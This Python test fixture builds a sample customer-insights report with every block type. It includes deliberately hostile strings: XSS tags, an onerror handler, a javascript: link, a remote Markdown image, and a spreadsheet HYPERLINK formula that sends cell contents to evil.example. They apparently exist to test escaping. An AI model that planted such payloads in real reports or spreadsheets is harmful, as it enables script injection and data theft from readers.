"""A small report with every kind of block, and with texts as an attacker would write them."""

from __future__ import annotations

from reports.document import (
    Callout,
    Chart,
    ChartBlock,
    DataTable,
    FactsTable,
    MissingData,
    Paragraph,
    Points,
    PromptSeen,
    Quote,
    ReportDocument,
    Section,
    SeenByModel,
    TableBlock,
    TableColumn,
)
from reports.facts import Fact

HOSTILE = (
    '<script>alert(1)</script><img src=x onerror="x()"> [a](javascript:x) '
    "![p](http://evil.example/p.png) =1+1 | `x` \x07"
)
"""HTML, Markdown, a formula, a control character."""
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"here")'


def chart(words: str = "web", *, spec: str = "bars", **options: str) -> Chart:
    heads = (TableColumn(name="Channel"), TableColumn(name="Share", unit="%", digits=1))
    data = DataTable(id="behaviour.channels", title="Channels", columns=heads, rows=((words, 52.9), ("app", 20.75)))
    return Chart(
        id="behaviour.channels-chart",
        spec=spec,
        title="Web is the strongest channel",
        alt=f"Bars: share per channel, {words}.",
        data=data,
        x="Channel",
        y=("Share",),
        options=options,
    )


def document(words: str = "plain words", *, language: str = "en") -> ReportDocument:
    rate = Fact(
        id="churn.rate", label=f"Share that left, {words}", value=17.5, unit="%", digits=1, n=5000, rank="headline"
    )
    revenue = Fact(id="behaviour.revenue", label="Revenue", value=7839424.4, n=5000, columns=("orders.amount",))
    heads = (TableColumn(name="Group"), TableColumn(name="Customers"), TableColumn(name="Share", unit="%", digits=1))
    table = DataTable(
        id="rfm.groups", title=f"Groups, {words}", columns=heads, rows=((words, 1234, 12.34), (FORMULA, 9, None))
    )
    blocks = (
        FactsTable(layout="figures", facts=(rate,)),
        Paragraph(text=f"A paragraph, {words}", origin="model", doubts=("99",)),
        Points(items=(words, "second")),
        ChartBlock(chart=chart(words)),
        TableBlock(table=table),
        Callout(tone="critical", title=f"Act, {words}", text=f"A finding, {words}"),
        Quote(text=f"PERSON_K7Q2M9XA wrote: {words}", source="tickets.body"),
        FactsTable(title="All figures", facts=(revenue,)),
        MissingData(what="Churn", why=words, needed=("customer.churned",)),
    )
    seen = SeenByModel(
        level="aggregates",
        explanation="Only statistics left.",
        k=5,
        suppressed=2,
        policy="balanced",
        session="report-1",
        entities={"PERSON": 3},
        exchanges=("x-1",),
        cost=0.0123,
        currency="EUR",
        prompts=(
            PromptSeen(
                step="write",
                section="first",
                model="sting-demo",
                prompt=f"Facts: {words}",
                answer=words,
                exchange="x-1",
            ),
        ),
    )
    return ReportDocument(
        id="r1",
        title=f"Title, {words}",
        subtitle=words,
        template="customer-insights",
        template_version="1.0",
        language=language,
        created="2026-03-05T10:00:00+00:00",
        jars=("shop",),
        level="aggregates",
        sections=(
            Section(id="first", title=f"First, {words}", blocks=blocks, degraded="no model answered"),
            Section(id="second", title="Second", blocks=(Paragraph(text="More."),)),
        ),
        seen=seen,
    )
